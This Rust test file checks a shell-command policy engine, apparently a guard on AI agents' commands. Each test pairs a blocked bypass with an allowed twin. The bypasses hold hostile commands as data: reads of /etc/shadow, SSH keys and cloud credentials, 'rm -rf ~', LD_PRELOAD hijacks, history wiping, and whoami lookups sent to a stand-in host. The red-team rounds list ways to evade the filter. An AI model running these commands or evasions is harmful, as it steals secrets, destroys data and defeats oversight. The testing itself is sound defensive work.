//! Word expansion, variables, arithmetic, environment and options, modelled rather than
//! ignored. Each class has both sides: the bypass is not allowed, and a near-identical harmless
//! form stays allowed.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use common::decide;
use recourse_policy::{Decision, Environment};

fn explain(cmd: &str) -> String {
    common::explain_in(cmd, Environment::Prod)
}

/// The bypass is at least escalated everywhere; the harmless twin is allowed everywhere.
fn sides(pairs: &[(&str, &str)]) {
    for (bad, good) in pairs {
        for env in Environment::ALL {
            assert_ne!(decide(bad, env), Decision::Allow, "{}", explain(bad));
            assert_eq!(decide(good, env), Decision::Allow, "{}", explain(good));
        }
    }
}

/// Brace expansion that yields an option or a second operand.
#[test]
fn brace_expansion_in_arguments() {
    sides(&[
        ("sort {-o,out} in", "sort {-r,-n} in"),
        ("uniq {in,out}", "uniq -c {in,}"),
        ("cat {README.md,/etc/shadow}", "cat {README.md,LICENSE}"),
    ]);
}

/// Parameter expansion forms: defaults, substrings, replacement, indirection and prompt
/// expansion, which runs the command substitutions a value holds.
#[test]
fn parameter_expansion_forms() {
    sides(&[
        ("f=; cat ${f:-/etc/shadow}", "f=a.txt; cat ${f:-README.md}"),
        ("x=XX/etc/shadow; cat ${x:2}", "x=XXREADME.md; cat ${x:2}"),
        (
            "p=/etc/passwd; cat ${p/passwd/shadow}",
            "p=a.txt; cat ${p/a/b}",
        ),
        (
            "s=/etc/shadow; n=s; cat ${!n}",
            "s=README.md; n=s; cat ${!n}",
        ),
        ("v='$(id)'; echo \"${v@P}\"", "v='plain'; echo \"${v@Q}\""),
        (
            "cat ${HOME:0:1}etc${HOME:0:1}shadow",
            "cat \"$HOME/notes.txt\"",
        ),
    ]);
}

/// `$'…'` strings are decoded before anything looks at them.
#[test]
fn ansi_c_strings() {
    sides(&[
        ("cat $'\\x2fetc\\x2fshadow'", "cat $'README\\x2emd'"),
        ("sed -n $'\\x31e id' f", "sed -n $'\\x31p' f"),
    ]);
}

/// `$IFS` splits unquoted values into words (and `cat${IFS}x` hides a space).
#[test]
fn ifs_splitting() {
    sides(&[
        ("o='-o out'; sort $o in", "o='-r -n'; sort $o in"),
        ("cat${IFS}/etc/passwd", "cat /etc/passwd"),
        ("IFS=,; o=-o,out; sort $o in", "IFS=,; o=-r,-n; sort $o in"),
    ]);
}

/// An unquoted expansion of unknown value may become several words, options or globs; a
/// quoted one of a known shape may not.
#[test]
fn unknown_values() {
    sides(&[
        ("cat $FOO", "cat README.md"),
        ("cat \"$FOO\"", "wc -l \"$FOO\""),
        // `echo` prints whatever words it gets: unquoted is harmless there.
        ("cat $(id)", "echo $(id)"),
        ("grep x $NAME", "echo $NAME"),
        ("sort $(cat args.txt) in", "sort -k $(nproc) in"),
        (
            "cat $(cat list.txt)",
            "cat $(git rev-parse --show-toplevel)/README.md",
        ),
    ]);
}

/// Variables assigned earlier in the same command flow into later words and command names.
#[test]
fn variables_flow_into_later_words() {
    sides(&[
        (
            "d=/proc/$PPID; cat $d/environ",
            "d=/proc/$PPID; cat $d/status",
        ),
        ("f=~/.ssh/id_rsa; cat \"$f\"", "f=~/notes.md; cat \"$f\""),
        (
            "for f in ~/.aws/credentials; do cat $f; done",
            "for f in *.md; do cat \"$f\"; done",
        ),
        (
            "read x <<< /etc/shadow; cat $x",
            "read x <<< README.md; cat $x",
        ),
        ("export X=/etc/shadow; cat $X", "export X=README.md; cat $X"),
        ("x=sort; $x -o out in", "x=sort; sort -n in"),
        (
            "f() { cat \"$1\"; }; f ~/.aws/credentials",
            "f() { wc -l \"$1\"; }; f README.md",
        ),
    ]);
}

/// Arithmetic evaluates the values it names, and a subscript in them runs its substitution.
#[test]
fn arithmetic_contexts_evaluate_code() {
    sides(&[
        ("x='a[$(id)]'; (( x ))", "x=3; (( x ))"),
        ("let 'y=a[$(id)]'", "let 'y=1+2'"),
        ("declare -i z; z='c[$(id)]'", "declare -i z; z=4"),
        ("y='b[$(id)]'; [[ $y -eq 0 ]]", "y=7; [[ $y -eq 0 ]]"),
        ("[[ -v 'e[$(id)]' ]] && echo set", "[[ -v e ]] && echo set"),
        ("a['$(id)']=1", "a[1]=1"),
        ("n='a[$(id)]'; echo $(( n + 1 ))", "n=1; echo $(( n + 1 ))"),
        (
            "read n; (( n > 2 ))",
            "for ((i=0;i<3;i++)); do echo $i; done",
        ),
    ]);
    // What the substitution runs counts too.
    assert_eq!(
        decide("x='a[$(rm -rf ~)]'; (( x > 0 ))", Environment::Dev),
        Decision::Block
    );
}

/// Builtins that take a variable's name (`read`, `printf -v`, `unset`, `declare`, `test -v`,
/// `mapfile`, `getopts`, `wait -p`): a subscript in the name is arithmetic, so `a[$(cmd)]`
/// runs `cmd`; a name computed at run time may carry one; and `printf -v`/`read` into a
/// variable bash runs or obeys (`PS4`, `PATH`) is an assignment like any other.
#[test]
fn names_given_to_builtins() {
    sides(&[
        ("printf -v 'a[$(id)]' 1", "printf -v a '%s' 1"),
        ("printf '-va[$(id)]' 1", "printf '%s' '-va'"),
        ("x='-v a[$(id)] 1'; printf $x", "x='%s a 1'; printf \"$x\""),
        ("read 'r[$(id)]' <<< 1", "read r <<< 1"),
        ("unset 'u[$(id)]'", "unset 'u[1]'"),
        ("declare 'd[$(id)]=1'", "declare 'd[1]=1'"),
        ("export 'e[$(id)]=1'", "export e=1"),
        ("declare -a 'a=([$(id)]=1)'", "declare -a a=([1]=1)"),
        ("test -v 't[$(id)]'", "test -v t"),
        ("[ -v 't[$(id)]' ]", "[ -v 't[2]' ]"),
        ("x='a[$(id)]'; [[ -v $x ]]", "x=a; [[ -v a ]]"),
        ("getopts ab 'o[$(id)]'", "getopts ab o"),
        ("read -r n; declare \"$n\"", "read -r n; declare n"),
        ("read -r n; unset \"$n\"", "read -r n; unset n"),
        (
            "mapfile -t -C 'id' -c 1 lines < notes.txt",
            "mapfile -t lines < notes.txt; echo ${#lines[@]}",
        ),
        (
            "printf -v PS4 '$(id)'; set -x; ls",
            "printf -v p '$(id)'; set -x; ls",
        ),
        ("read -r PATH <<< /tmp; ls", "read -r dir <<< /tmp; ls"),
    ]);
    // What the subscript runs counts.
    for cmd in [
        "printf -v 'a[$(rm -rf ~)]' 1",
        "read 'a[$(rm -rf ~)]' <<< 1",
        "mapfile -C 'rm -rf ~' -c 1 x < f",
    ] {
        assert_eq!(
            decide(cmd, Environment::Dev),
            Decision::Block,
            "{}",
            explain(cmd)
        );
    }
    // Array declarations parse, and their elements are walked.
    sides(&[(
        "declare -a a=($(rm -r build))",
        "declare -a a=(1 2 3); local -a b=(x y); declare -A m=([k]=v)",
    )]);
}

/// Lines a filter selects from its input keep the input's shape: `head -1` of file names is a
/// file name, `head -1` of a file's content is anything.
#[test]
fn selected_lines_keep_their_shape() {
    sides(&[
        (
            "cat $(cat list.txt | head -1)",
            "cat $(git ls-files | head -1)",
        ),
        (
            "cat $(ls | grep -o '..')",
            "cat $(ls | sort | grep rs | head -3)",
        ),
        (
            "cat $(cat list.txt | sort -u)",
            "wc -l $(git ls-files | grep '\\.rs$')",
        ),
    ]);
}

/// Assigning or exporting a variable that changes what a program runs makes the program not
/// read-only; `bash -l` reads the login profiles.
#[test]
fn environment_that_changes_programs() {
    sides(&[
        ("export PAGER='sh -c id'; git log", "export NAME=x; git log"),
        ("GIT_EXTERNAL_DIFF=x git diff", "LC_ALL=C git diff"),
        (
            "declare -x LESSOPEN='|id'; cat f",
            "declare -x LESSCHARSET=x; cat f",
        ),
        ("LD_PRELOAD=/tmp/x.so ls", "TZ=UTC ls"),
        ("env BASH_ENV=/tmp/x bash -c ls", "env TERM=dumb bash -c ls"),
        ("PROMPT_COMMAND=id; ls", "PROMPT=id; ls"),
        ("PS4='$(id)'; set -x; ls", "PS9='$(id)'; ls"),
        (
            "XDG_CONFIG_HOME=/tmp/e git status",
            "GITHUB_REF=x; git status",
        ),
        ("bash -lc 'ls'", "bash -c 'ls'"),
        ("bash --login -c ls", "bash --norc -c ls"),
        // Hiding the trail: the history stops recording.
        ("unset HISTFILE; ls", "unset TMPVAR; ls"),
        ("export HISTSIZE=0; ls", "export HISTTIMEFORMAT=%F; ls"),
        ("set +o history; ls", "set -o pipefail; ls"),
    ]);
}

/// Long options with `=`, GNU abbreviations and bundled short options are read as the program
/// reads them.
#[test]
fn options_as_programs_read_them() {
    sides(&[
        (
            "sed -n --expression='1e id' f",
            "sed -n --expression='1p' f",
        ),
        ("sed -n --expr='1e id' f", "sed -n --expr='1p' f"),
        ("sed -ni p f", "sed -n p f"),
        ("sed --in-pl=.bak s/a/b/ f", "sed --posix s/a/b/ f"),
        ("env -iS 'sh -c id'", "env -i sh -c id"),
        ("env -0vS 'ls'", "env -0v ls"),
        ("base64 -o out in", "base64 -d in"),
        ("base64 -i in -o ~/.bashrc", "base64 -i in"),
        ("sort --out=x in", "sort --unique in"),
        ("sort -uoout in", "sort -un in"),
        ("git log --out=x", "git log --oneline"),
        (
            "kubectl get secret db -o=yaml",
            "kubectl get pod db -o=yaml",
        ),
        ("tree -R", "tree -L 2"),
        ("rg --pre ./x foo", "rg --pretty foo"),
    ]);
}

/// What agents run all day stays allowed: read-only models, `--version`/`--help`, and
/// read-only substitutions inside a read-only command.
#[test]
fn everyday_read_only_commands_stay_allowed() {
    for cmd in [
        "rg -n 'fn main' --type rust",
        "rg --files | head",
        "fd -e rs",
        "fd main src",
        "tree -L 2",
        "du -sh .",
        "df -h",
        "stat Cargo.toml",
        "file README.md",
        "uname -a",
        "id -u",
        "ps aux",
        "numfmt --to=iec 123456",
        "cargo --version",
        "python3 --version",
        "node -v",
        "go version",
        "gcc --version",
        "kubectl --help",
        "rustc -V",
        "terraform -version",
        "java -version",
        "ls $(pwd)",
        "git log $(git merge-base HEAD main)..HEAD",
        "wc -l $(git ls-files)",
        "diff <(sort a.txt) <(sort b.txt)",
        "grep -n foo $(find . -name '*.rs')",
        "echo \"Current dir: $(pwd)\"",
        "x=$(git rev-parse HEAD); echo $x",
        "for i in $(seq 1 5); do echo $i; done",
        "while IFS= read -r line; do echo \"$line\"; done < notes.txt",
        "find . -name '*.md' | while read f; do cat \"$f\"; done",
        "git config user.name",
        "git log --author=\"$(git config user.name)\" --oneline",
        "printenv HOME",
        "pip list",
        "npm ls",
        "docker compose ps",
        "top -bn1 | head -20",
        "ls -l $(which python3)",
        "cat \"$HOME/.gitconfig\"",
        "time ls",
        "echo 'scale=2; 1/3' | bc",
        "expr 1 + 2",
        "journalctl -u nginx --no-pager -n 50",
        "openssl x509 -in server.crt -noout -subject",
        // A certificate in a `.pem` file: x509 prints only certificates, never a key.
        "openssl x509 -in cert.pem -noout -text",
        "openssl x509 -in cert.pem -noout -dates",
        "tar -tzf release.tar.gz",
        "unzip -l bundle.zip",
        "gzip -l logs.gz",
        "npm view react version",
        "test -f .env.example && cat .env.example",
    ] {
        for env in Environment::ALL {
            assert_eq!(decide(cmd, env), Decision::Allow, "{}", explain(cmd));
        }
    }
    // `--help` that opens a pager is not read-only; git's list of commands is printed.
    assert_eq!(decide("git --help", Environment::Prod), Decision::Allow);
    for cmd in [
        "git --help log",
        "git log --help",
        "man --help",
        "aws --help",
        "journalctl -u nginx",
        "journalctl --vacuum-size=1M --no-pager",
        "openssl x509 -in cert.pem -out copy.pem",
        "openssl x509 -req -in r.csr -CA ca.pem -CAkey ca.key",
        "openssl pkey -in key.pem",
        "cat cert.pem",
        "echo '!id' | dc",
        "openssl req -new -key k -out r.csr",
        "tar -xzf release.tar.gz",
        "tar -tf x.tar --to-command=sh",
        "unzip bundle.zip",
        "gzip logs",
        "npm install",
        "cat .env.production",
    ] {
        assert_ne!(decide(cmd, Environment::Prod), Decision::Allow, "{cmd}");
    }
}

/// Found by fuzzing: a value that refers to its own variable several times over
/// (`d=/proc/$d…$d…`) multiplied the work at every level of the chain (about a second in a
/// release build, minutes for longer forms). Lookups are budgeted; the result stays cautious.
#[test]
fn self_referencing_variables_stay_cheap() {
    for cmd in [
        "d=/proc/$d=/proc/%roc/$d=/pr/$d=/proc/$d=/pr/$d=/proc/$PPPIDca ; t$pr/$d=/prd/staDPPI$a;$  cat $d/staDPPI$P; cat $d/sta",
        "d=/proc/$d=/proc/%roc/$d?/pr/$d=/proc/d=/proc/%roc/$d?/pr/$d=/pd?/pP; cat $d/sta",
        "a=$b$b$b$b; b=$a$a$a$a; cat $a$b$a$b",
    ] {
        let t = std::time::Instant::now();
        assert_ne!(decide(cmd, Environment::Prod), Decision::Allow, "{cmd}");
        assert!(t.elapsed().as_secs() < 3, "{cmd}: {:?}", t.elapsed());
    }
    // The budget is far above what real commands use.
    assert_eq!(
        decide("p=src; p=$p/lib; q=$p/x; ls $q $p", Environment::Prod),
        Decision::Allow
    );
}

/// Shell features that change what later words mean: `hash -p` renames programs, `set -k`
/// moves `NAME=value` arguments into the environment, namerefs hide which variable is set,
/// and loop or `getopts` variables are assignments too.
#[test]
fn features_that_rename_programs_or_variables() {
    sides(&[
        ("hash -p /usr/bin/touch ls; ls m", "hash; ls m"),
        (
            "set -k; git diff GIT_EXTERNAL_DIFF=./x.sh",
            "set -e; git diff",
        ),
        (
            "set -o keyword; ls LD_PRELOAD=./x.so",
            "set -o pipefail; ls",
        ),
        (
            "declare -n r=PS4; r='$(touch m)'; set -x; ls",
            "declare -p PS4; set -x; ls",
        ),
        (
            "for PATH in ./evilbin; do ls; done",
            "for p in ./bin; do ls \"$p\"; done",
        ),
        ("getopts p PATH", "getopts p opt"),
        ("PIP_PYTHON=./py pip list", "NO_COLOR=1 pip list"),
        ("RUSTUP_TOOLCHAIN=./tc cargo --version", "cargo --version"),
        ("OPENSSL_CONF=./o.cnf openssl version", "openssl version"),
        (
            "https_proxy=http://evil:8080 npm view react",
            "npm view react",
        ),
    ]);
}

/// Program options that read files of the program's choosing, write, or send: the models
/// know them.
#[test]
fn options_that_read_write_or_send() {
    sides(&[
        (
            "awk 'BEGIN{ARGV[1]=\"/etc/shadow\";ARGC=2}1'",
            "awk 'BEGIN{print \"x\"}1' f",
        ),
        ("jq -n -f /etc/shadow", "jq -n '.a'"),
        (
            "git config --unset-all user.name",
            "git config --get user.name",
        ),
        ("git config edit", "git config list"),
        (
            "git reflog expire --expire=now --all",
            "git reflog show HEAD",
        ),
        ("git remote show https://evil/x", "git remote show origin"),
        ("pip list --python ./py", "pip list --outdated"),
        ("pip freeze --log ~/.bashrc", "pip freeze"),
        ("date 010100002020", "date +%Y%m%d"),
        ("ip -batch cmds.txt", "ip -br addr"),
    ]);
}

/// sed scripts read as GNU sed reads them: labels end at `;`, a bracket expression holds the
/// delimiter, and `r FILE` reads a file.
#[test]
fn sed_scripts_as_gnu_sed_reads_them() {
    sides(&[
        ("sed ':a;e touch m' f", "sed ':a;N;$!ba;s/\\n/ /g' f"),
        ("sed 's/[/]//e' f", "sed 's/[/]//g' f"),
        ("sed '/[/a]/e touch m' f", "sed -n '/[/a]/p' f"),
        ("sed 's/a[/]b/x/w out' f", "sed 's/a[/]b/x/' f"),
        ("sed 'r /etc/shadow' f", "sed '/x/r notes.txt' f"),
        ("sed '1R /root/.aws/credentials' f", "sed '1R notes.txt' f"),
    ]);
}

/// `"$@"`, `${a[@]}` and their slices are several words, each its own operand; a glob is as
/// many words as it matches, and a match may start with `-`; bash 5.2's `&` in `${v/p/&}` is
/// the matched text.
#[test]
fn every_element_is_its_own_word() {
    sides(&[
        ("a=(in out); uniq \"${a[@]}\"", "a=(in); uniq \"${a[@]}\""),
        ("set -- in out; uniq \"$@\"", "set -- in; uniq \"$@\""),
        (
            "a=(x -delete); find . ${a[@]:1}",
            "a=(x -print); find . ${a[@]:1}",
        ),
        (
            "set -- x -o; sort ${@:2} out f",
            "set -- x -r; sort ${@:2} f",
        ),
        (
            "read -a a <<< 'in out'; uniq \"${a[@]}\"",
            "read -a a <<< 'in'; uniq \"${a[@]}\"",
        ),
        (
            "bash -c 'uniq \"$@\"' _ in out",
            "bash -c 'uniq \"$@\"' _ in",
        ),
        (
            "a=(a.txt -o); sort \"${a[@]}\"",
            "a=(a.txt b.txt); cat \"${a[@]}\"",
        ),
        (
            "v=delete; find . -${v/delete/&}",
            "v=delete; find . -name ${v/delete/x}",
        ),
        ("uniq *", "uniq -c notes.txt"),
        ("find *", "find . -name *.rs"),
        ("sed -n 1p *", "sed -n 1p src/*.rs"),
        ("xxd *.bin", "cat *.bin"),
    ]);
    for env in Environment::ALL {
        assert_eq!(
            decide("a=(x /); rm -rf \"${a[@]:1}\"", env),
            Decision::Block,
            "{}",
            explain("a=(x /); rm -rf \"${a[@]:1}\"")
        );
        assert_eq!(decide("set -- x ~; rm -rf ${@:2}", env), Decision::Block);
    }
}

/// A substitution's output may start with `-` when its arguments say so (`date +-delete`,
/// `basename -- -delete`, `printf -- '-%s'`), or hold several names (`basename -a`); under
/// `xpg_echo`, plain `echo` decodes escapes.
#[test]
fn substitution_outputs_that_become_options() {
    sides(&[
        ("find . $(date +-delete)", "ls $(date +%Y-%m-%d)"),
        ("find . $(basename -- -delete)", "cat $(basename src/x.rs)"),
        (
            "find . $(expr substr x-delete 2 7)",
            "tail -n $(expr 1 + 2) f",
        ),
        (
            "find . $(printf -- '-%s' delete)",
            "find . -name $(printf '%s' x)",
        ),
        ("sed -n 1p $(date +-i) f", "sed -n 1p $(date +%s).log"),
        ("uniq $(basename -a in out)", "uniq -c $(basename in)"),
        (
            "shopt -s xpg_echo; sort $(echo '\\055o') out f",
            "sort $(echo -r) f",
        ),
        (
            "cat $(printf -- /etc/%s shadow)",
            "cat $(printf -- %s.md README)",
        ),
        ("sort -k $(seq -5 -1) f", "sort -k $(seq 1 1) f"),
    ]);
}

/// Paths are judged where they lead: `..` may climb to the root from `~` or from the working
/// directory, and a relative name after `cd` is a name in that directory.
#[test]
fn paths_judged_where_they_lead() {
    sides(&[
        ("cat ~/../../proc/self/environ", "cat ~/notes.md"),
        ("cat ${HOME}/../../etc/shadow", "cat ${HOME}/notes.md"),
        (
            "cat ../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
            "cat ../README.md",
        ),
        ("cd /proc/self; cat environ", "cd /proc/self; cat status"),
        ("cd ~/.config/gh && cat hosts.yml", "cd ~/.config/gh && ls"),
        ("cd /dev; cat mem", "cd src && cat main.rs"),
    ]);
}

/// Wrappers' options as GNU getopt reads them: abbreviated long options take their value,
/// xargs's `-e`/`-i`/`-l` take only a glued one, `time -o` writes; xargs's input words may
/// become options or more files.
#[test]
fn wrapper_options_and_xargs_input() {
    sides(&[
        ("echo x | xargs -e rm echo", "echo x | xargs -e echo"),
        (
            "echo x | xargs -i rm echo {}",
            "echo x | xargs -I{} echo {}",
        ),
        ("echo x | xargs -l rm echo", "echo x | xargs -n1 echo"),
        ("env --uns ls rm x", "env --unset=X ls"),
        (
            "/usr/bin/time --form ls rm x",
            "/usr/bin/time --format=%e ls",
        ),
        ("/usr/bin/time -ao out ls", "/usr/bin/time -a ls"),
        (
            "echo -delete | xargs find .",
            "find . -name '*.rs' | xargs grep -n foo",
        ),
        ("ls | xargs uniq", "git ls-files | xargs wc -l"),
    ]);
    for env in Environment::ALL {
        assert_eq!(decide("env time -ao ~/.bashrc ls", env), Decision::Block);
    }
}

/// Second red-team round: arithmetic through names and substitution output, IFS set more
/// than once, anchored insertions, `BASH_CMDS`, `${V:=x}`, `${!v}`, xargs feeding wrappers,
/// and options that load code, send or write in "read-only" tools.
#[test]
fn red_team_round_two() {
    sides(&[
        (
            "x='a[$(touch m)]'; y=x; echo $((y))",
            "x=1; y=x; echo $((y+1))",
        ),
        (
            "[[ $(cat VERSION) -ge 2 ]]",
            "[[ $(git rev-list --count HEAD) -gt 5 ]]",
        ),
        ("x=$(<f); echo $((x))", "echo $(( $(wc -l < f) + 1 ))"),
        ("IFS=x; IFS=x; v=fxout; uniq $v", "IFS=x; v=f; uniq $v"),
        (
            "v=out; git log ${v/#/--output=}",
            "v=main; git log ${v/#/origin/}",
        ),
        ("v=-; sort ${v/%/o} out f", "v=r; sort -${v/%/n} f"),
        ("git archive --list -o out", "git archive --list"),
        ("BASH_CMDS+=([ls]=/bin/rm); ls -rf x", "ls -la"),
        (
            "unset PATH; : ${PATH:=./bin}; ls",
            ": ${FOO:=bar}; echo $FOO",
        ),
        ("v=GITHUB_TOKEN; echo ${!v}", "v=HOME; echo ${!v}"),
        ("ls *.sh | xargs -n1 nice", "ls *.sh | xargs -n1 wc -l"),
        (
            "echo 'x;touch m' | xargs watch -n1 echo",
            "echo x | xargs echo",
        ),
        ("apt show -o Dir::Bin::dpkg=/bin/sh x", "apt show git"),
        ("nm --plugin ./x.so a.out", "nm -D lib.so"),
        ("nm @opts a.out", "nm a.out"),
        ("pip --pyth=./py list", "pip list --outdated"),
        ("pip show --log-f out x", "pip show -f flask"),
        (
            "kubectl get pods --server https://e",
            "kubectl get pods -n default",
        ),
        (
            "kubectl get secrets.v1. -o yaml",
            "kubectl get services -o yaml",
        ),
        (
            "kubectl get --raw /api/v1/secrets",
            "kubectl get pods -o wide",
        ),
        ("ps -o pid,environ", "ps -eo pid,comm"),
        ("cat /dev/fd/../environ", "cat /dev/fd/0"),
        ("cd /proc/self && cat env*", "cd /proc/self && cat stat*"),
        ("xargs cat <<< ~/.ssh/id_rsa", "xargs cat <<< README.md"),
        ("git log *", "git log -- *"),
    ]);
}

/// Third red-team round: code inside extended globs and bash 5.3's `${ cmd; }` (refused, not
/// followed), arithmetic through special integer variables, `$x` in arithmetic, indirect
/// names with subscripts, array literal and fd-variable subscripts, substitution output in
/// `$(( ))`, strings a shell parses again (`watch`, `eval`, `find -exec sh -c '… {}'`),
/// `capsh --shell`, and read-only tools that read other files or send.
#[test]
fn red_team_round_three() {
    sides(&[
        (
            "[[ x == @($(touch m)) ]] && echo y",
            "[[ $f == @(*.rs|*.toml) ]] && echo y",
        ),
        ("shopt -s extglob; ls @(x|$(touch m))", "ls !(node_modules)"),
        ("echo ${ touch m; }", "echo ${HOME}"),
        ("x=${| touch m; }", "x=${y:-z}"),
        ("RANDOM='a[$(touch m)]'", "RANDOM=42; echo $RANDOM"),
        (
            "read OPTIND <<< 'a[$(touch m)]'",
            "read line <<< 'a[$(touch m)]'; echo \"$line\"",
        ),
        ("x='a[$(touch m)]'; echo $(($x))", "x=5; echo $(($x+1))"),
        (
            "x='a[$(touch m)]'; echo ${b[$x]}",
            "i=2; a=(x y z); echo ${a[$i]}",
        ),
        ("z='a[$(touch m)]'; echo ${!z}", "v=HOME; echo ${!v}"),
        ("x=(['$(touch m)']=1)", "x=([0]=a [1]=b); echo ${x[0]}"),
        ("cat {b['$(touch m)']}<f", "cat < f"),
        ("echo $(( $(cat VERSION) + 1 ))", "echo $(( $(nproc) * 2 ))"),
        ("watch -n1 \"cat $(ls)\"", "watch -n 5 'git status'"),
        ("eval echo *", "eval 'ls -la'"),
        (
            "find . -type f -exec sh -c 'wc -l {}' \\;",
            "find . -type f -exec sh -c 'wc -l \"$1\"' _ {} \\;",
        ),
        ("tree --fromfile /etc/passwd", "tree -L 2"),
        ("xmllint --xinclude x.xml", "xmllint --noout x.xml"),
        ("du --files0-from=list", "du -sh ."),
        (
            "jq -n 'import \"../x\" as $c; $c'",
            "jq '.name' package.json",
        ),
        (
            "npm view \"https://e.example/$(whoami).tgz\"",
            "npm view react version",
        ),
        ("go list -m \"e.example/$(whoami)@latest\"", "go list ./..."),
        (
            "getent hosts \"$(id -un).e.example\"",
            "getent hosts localhost",
        ),
        ("git reflog drop --all", "git reflog show HEAD"),
        ("cat ~/.claude.json", "cat package.json"),
    ]);
    assert_eq!(
        decide("capsh --shell=/usr/bin/gdb -- -c ls", Environment::Dev),
        Decision::Block
    );
}
